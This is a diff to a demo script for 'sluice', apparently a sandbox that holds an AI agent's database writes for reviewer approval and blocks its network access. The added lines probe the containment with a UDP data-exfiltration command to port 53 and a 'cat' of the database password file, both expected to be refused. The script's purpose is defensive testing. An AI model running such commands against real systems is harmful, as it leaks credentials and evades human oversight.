@@ -94,6 +94,10 @@ echo "--- psql: UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1   (h
 psql -X "host=169.254.200.2 user=app password=anything dbname=shop" -c "UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1"
 echo "--- curl http://169.254.200.2:9999/  (not a listed resource)"
 curl -sS -m 3 http://169.254.200.2:9999/ || echo "(refused by sluice in the kernel: EPERM)"
+echo "--- a DNS-shaped datagram to a host that is not the resolver (exfiltration over UDP)"
+bash -c "echo c2VjcmV0 > /dev/udp/169.254.200.2/53" || echo "(refused by sluice in the kernel: EPERM)"
+echo "--- cat the credential sluice logs in with"
+cat '"$WORK"'/orders-db.password || echo "(hidden from the agent: sluice exec'"'"'s Landlock sandbox)"
 '
 # A reviewer at another terminal: waits for the held statement, looks at it, approves it.
 reviewer() {
@@ -123,7 +127,7 @@ RUST_LOG=info,sluice::proto::command=debug \
 wait "$REVIEWER_PID" || true
 
 step "What sluice logged"
-grep -E 'event="(connection|session_start|command|approval_requested|approval_decided|hold_released|egress_denied)"' "$WORK/sluice.log" \
+grep -E 'event="(connection|session_start|command|approval_requested|approval_decided|hold_released|egress_denied|udp_denied|exec_sandbox)"' "$WORK/sluice.log" \
   | sed -E 's/^[^ ]+ +//' | cut -c1-260
 
 step "Ground truth: the table is still there"
